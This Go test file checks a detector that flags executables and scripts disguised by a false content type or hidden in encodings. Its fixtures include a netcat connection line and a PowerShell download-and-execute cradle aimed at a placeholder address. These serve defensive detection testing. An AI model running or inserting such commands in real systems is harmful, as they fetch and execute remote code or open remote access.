package detect_test

import (
	"bytes"
	"debug/elf"
	"debug/macho"
	"debug/pe"
	"encoding/base64"
	"encoding/binary"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"weir/internal/inspect"
)

// program returns headers as linkers write them, with nothing behind.
func program(kind string) []byte {
	p := make([]byte, 4096)
	switch kind {
	case "PE":
		copy(p, "MZ\x90\x00\x03")
		p[60] = 0x80
		copy(p[0x80:], "PE\x00\x00\x64\x86\x03\x00")
		binary.LittleEndian.PutUint16(p[0x80+24:], 0x20b)
	case "ELF":
		copy(p, "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00\x01")
	case "Mach-O":
		for i, v := range []uint32{0xfeedfacf, 0x0100000c, 0, 2, 16, 1024} {
			binary.LittleEndian.PutUint32(p[4*i:], v)
		}
	case "Office":
		copy(p, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
		copy(p[26:], "\x03\x00\xfe\xff\x09\x00")
	case "MSI":
		copy(p, program("Office"))
		copy(p[512+80:], "\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	case "LNK":
		copy(p, "\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	case "stub":
		copy(p, "MZ\x90\x00\x03")
		copy(p[64:], "This program cannot be run in DOS mode.")
	case "shell":
		p = []byte("#!/bin/sh\nexec nc 192.0.2.1 4444\n")
	case "node":
		p = []byte("#!/usr/bin/env node\nconsole.log(1)\n")
	case "batch":
		p = []byte("@echo off\r\nstart calc\r\n")
	case "PowerShell":
		p = []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')")
	case "HTA":
		p = []byte("<html><hta:application id=x><script>1</script></html>")
	case "PNG":
		copy(p, "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")
	case "text":
		p = []byte("MZ is a signature. #!/bin/sh is a line. New-Object is a word.")
	}
	return p
}

func TestExecutableType(t *testing.T) {
	never := []string{
		"image/png", "image/svg+xml", "audio/mpeg", "video/mp4", "video/mp2t", "font/woff2", "text/css", "text/html", "text/xml", "text/csv",
		"application/json", "application/ld+json", "application/xml", "application/atom+xml", "application/javascript", "text/javascript",
		"application/pdf", "application/font-woff",
	}
	may := []string{
		"", "application/octet-stream", "application/x-msdownload", "application/x-executable", "application/x-sh", "text/plain",
		"application/zip", "application/x-msdos-program", "text/x-shellscript", "application/vnd.microsoft.portable-executable", "multipart/form-data",
		"application/x-www-form-urlencoded", "imagepng", "/", "nonsense",
	}
	expect := func(t *testing.T, kind, declared string, want bool) {
		t.Helper()
		for _, phase := range []inspect.Phase{inspect.RequestData, inspect.ResponseData} {
			data := program(kind)
			got := run(t, "executable-type", inspect.Layer{Phase: phase, Declared: declared}, data, all(data))
			if (len(got) == 1) != want || len(got) > 1 {
				t.Errorf("%s as %q: %v, want a find: %v", kind, declared, got, want)
			}
			if want && len(got) == 1 && (got[0].Severity != inspect.High || !strings.HasSuffix(got[0].Detail, declared)) {
				t.Errorf("%s as %q: %v", kind, declared, got)
			}
		}
	}
	for _, kind := range []string{"PE", "ELF", "Mach-O", "MSI", "LNK"} {
		for _, declared := range never {
			expect(t, kind, declared, true)
		}
		for _, declared := range may {
			expect(t, kind, declared, false)
		}
	}
	for _, declared := range append(never, may...) {
		expect(t, "PNG", declared, false)
		expect(t, "text", declared, false)
	}
	for _, c := range []struct {
		kind, declared string
		want           bool
	}{
		{"shell", "image/png", true},
		{"shell", "text/css", true},
		{"shell", "text/html", true},
		{"shell", "application/json", true},
		{"shell", "text/plain", false},
		{"shell", "application/x-sh", false},
		{"node", "application/javascript", false},
		{"node", "text/javascript", false},
		{"node", "video/mp2t", false},
		{"node", "image/gif", true},
		{"batch", "image/jpeg", true},
		{"batch", "text/html", true},
		{"PowerShell", "image/jpeg", true},
		{"PowerShell", "text/css", true},
		{"PowerShell", "text/html", false},
		{"PowerShell", "application/json", false},
		{"HTA", "text/html", true},
		{"HTA", "application/hta", false},
		{"stub", "image/png", true},
		{"stub", "font/x-fon", false},
		{"Office", "image/png", true},
		{"Office", "image/vnd.fpx", false},
		{"Office", "text/html", false},
		{"Office", "application/msword", false},
	} {
		expect(t, c.kind, c.declared, c.want)
	}
}

func TestExecutableTypeIsForBodiesAsTheyCame(t *testing.T) {
	data := program("PE")
	if got := run(t, "executable-type", inspect.Layer{Depth: 1, Path: "gzip", Declared: "image/png"}, data, all(data)); got != nil {
		t.Fatalf("got %v", got)
	}
}

func TestHidden(t *testing.T) {
	for _, c := range []struct {
		kind   string
		depth  int
		path   string
		binary bool
		script bool
	}{
		{"PE", 1, "base64", true, false},
		{"PE", 2, "gzip > base64", true, false},
		{"PE", 2, "base64 > gzip", true, false},
		{"PE", 1, "hex", true, false},
		{"PE", 1, "gzip", false, false},
		{"PE", 0, "", false, false},
		{"ELF", 1, "base64", true, false},
		{"Mach-O", 1, "base64", true, false},
		{"LNK", 1, "hex", true, false},
		{"stub", 1, "base64", false, false},
		{"Office", 1, "base64", false, false},
		{"MSI", 1, "base64", false, false},
		{"PNG", 1, "base64", false, false},
		{"text", 1, "base64", false, false},
		{"shell", 1, "base64", false, true},
		{"shell", 1, "gzip", false, false},
		{"node", 1, "hex", false, true},
		{"batch", 1, "base64", false, true},
		{"PowerShell", 1, "base64", false, true},
		{"HTA", 1, "base64", false, true},
	} {
		t.Run(c.kind+" "+c.path, func(t *testing.T) {
			layer := inspect.Layer{Depth: c.depth, Path: c.path}
			for name, want := range map[string]bool{"executable-hidden": c.binary, "script-hidden": c.script} {
				if got := cutsAgree(t, name, layer, program(c.kind)); (len(got) == 1) != want || len(got) > 1 {
					t.Errorf("%s: %v, want a find: %v", name, got, want)
				}
			}
		})
	}
}

// FuzzExecutable: cuts change nothing, for any type and any path.
func FuzzExecutable(f *testing.F) {
	for _, kind := range []string{"PE", "ELF", "Mach-O", "MSI", "LNK", "stub", "shell", "batch", "PowerShell", "HTA", "text"} {
		f.Add(program(kind), "image/png", uint64(1))
		f.Add(program(kind), "text/html", uint64(2))
	}
	f.Fuzz(func(t *testing.T, data []byte, declared string, seed uint64) {
		random := rand.New(rand.NewPCG(seed, 3))
		for name, layer := range map[string]inspect.Layer{
			"executable-type": {Declared: declared}, "executable-hidden": {Depth: 1, Path: "hex"}, "script-hidden": {Depth: 1, Path: "base64"},
			"executable-mislabelled": {Declared: declared},
		} {
			want := run(t, name, layer, data, all(data))
			if got := run(t, name, layer, data, func() int { return 1 + random.IntN(200) }); !slices.Equal(got, want) {
				t.Fatalf("%s: %v, in one %v", name, got, want)
			}
		}
	})
}

// files calls do for each file below root; it says whether root exists.
func files(t *testing.T, root string, do func(path string, data []byte)) bool {
	t.Helper()
	if _, err := os.Stat(root); err != nil {
		return false
	}
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasPrefix(d.Name(), ".") {
			return err
		}
		data, err := os.ReadFile(path)
		if err == nil {
			do(path, data)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return true
}

// declaredBy says what a server says of a file with this name.
var declaredBy = map[string]string{
	".png": "image/png", ".gif": "image/gif", ".jpg": "image/jpeg", ".psd": "image/vnd.adobe.photoshop", ".svg": "image/svg+xml", ".mp3": "audio/mpeg",
	".wav": "audio/wav", ".flac": "audio/flac", ".ogg": "audio/ogg", ".html": "text/html", ".css": "text/css", ".csv": "text/csv",
	".tsv": "text/tab-separated-values", ".json": "application/json", ".js": "text/javascript", ".pdf": "application/pdf", ".yml": "application/yaml",
	".ts": "video/mp2t", ".md": "text/markdown", ".txt": "text/plain", ".bat": "application/x-bat", ".msi": "application/x-msi",
	".doc": "application/msword", ".msg": "application/vnd.ms-outlook",
}

func TestFilesOfKnownType(t *testing.T) {
	found := map[string]bool{}
	seen := 0
	for _, set := range []string{"filetypes-mimetype", "filetypes-magika"} {
		root := filepath.Join("..", "..", "..", "shared", "data", set)
		there := files(t, root, func(path string, data []byte) {
			seen++
			for name, layer := range map[string]inspect.Layer{
				"executable-type": {Declared: declaredBy[filepath.Ext(path)]}, "executable-hidden": {Depth: 1, Path: "base64"},
				"script-hidden": {Depth: 1, Path: "base64"}, "eicar": {}, "executable-mislabelled": {Declared: declaredBy[filepath.Ext(path)]},
			} {
				got := run(t, name, layer, data, all(data))
				if len(got) > 0 && (name != "script-hidden" || filepath.Ext(path) != ".bat") {
					t.Errorf("%s on %s: %v", name, path, got)
				}
			}
			for _, m := range cutsAgreeAt(t, inspect.Layer{Declared: "image/png"}, data) {
				found[filepath.Base(path)+": "+m.Detail] = true
			}
		})
		if !there {
			t.Skipf("NOT TESTED against real files: %s is absent", root)
		}
	}
	for _, want := range []string{
		"simple.bat: batch file declared as image/png", "msi.msi: OLE compound file declared as image/png", "doc.doc: OLE compound file declared as image/png",
	} {
		if !found[want] {
			t.Errorf("not found: %s", want)
		}
	}
	if seen < 60 || len(found) > 10 {
		t.Errorf("%d files, as image/png: %v", seen, found)
	}
}

// cutsAgreeAt compares a few cuts, for files that are long.
func cutsAgreeAt(t *testing.T, layer inspect.Layer, data []byte) []inspect.Match {
	t.Helper()
	want := run(t, "executable-type", layer, data, all(data))
	for _, size := range []int{1, 63, 1000, 4096} {
		if got := run(t, "executable-type", layer, data, func() int { return size }); !slices.Equal(got, want) {
			t.Fatalf("parts of %d: %v, want %v", size, got, want)
		}
	}
	return want
}

// TestRealPrograms takes the programs that come with Go for its own tests of debug/pe, debug/elf and debug/macho, and this test.
// Those packages are the oracle.
func TestRealPrograms(t *testing.T) {
	seen := 0
	check := func(path string, data []byte) {
		kind := oracle(data)
		if kind == "" {
			return
		}
		seen++
		for name, layer := range map[string]inspect.Layer{
			"executable-type": {Declared: "image/png"}, "executable-hidden": {Depth: 1, Path: "base64"},
		} {
			got := run(t, name, layer, data, func() int { return 1000 })
			if len(got) != 1 || !strings.HasPrefix(got[0].Detail, kind) {
				t.Errorf("%s on %s, %s: %v", name, path, kind, got)
			}
		}
		if got := run(t, "executable-type", inspect.Layer{Declared: "application/octet-stream"}, data, all(data)); len(got) != 0 {
			t.Errorf("%s as what it is: %v", path, got)
		}
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(self)
	if err != nil {
		t.Fatal(err)
	}
	check(self, data)
	goroot, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{"pe", "elf", "macho"} {
		files(t, filepath.Join(strings.TrimSpace(string(goroot)), "src", "debug", dir, "testdata"), func(path string, data []byte) {
			if strings.HasSuffix(path, ".base64") {
				decoded, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(string(data)), ""))
				if err != nil {
					t.Fatal(err)
				}
				data = decoded
			}
			check(path, data)
		})
	}
	t.Logf("%d programs", seen)
	if seen == 0 {
		t.Error("no program was looked at, not even this one")
	}
}

func oracle(data []byte) string {
	r := bytes.NewReader(data)
	if bytes.HasPrefix(data, []byte("MZ")) { // debug/pe takes objects too, which have no magic number
		if _, err := pe.NewFile(r); err == nil {
			return "PE"
		}
	}
	if _, err := elf.NewFile(r); err == nil {
		return "ELF"
	}
	if _, err := macho.NewFile(r); err == nil {
		return "Mach-O"
	}
	if _, err := macho.NewFatFile(r); err == nil {
		return "Mach-O"
	}
	return ""
}

func BenchmarkExecutableType(b *testing.B) {
	d := byName(b, "executable-type").(inspect.Body)
	data := bytes.Repeat(program("PNG"), 4)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		s := d.Stream(nil, inspect.Layer{Declared: "image/png"}, func(m inspect.Match) { b.Errorf("%v", m) })
		s.Write(data)
		s.Close()
	}
}
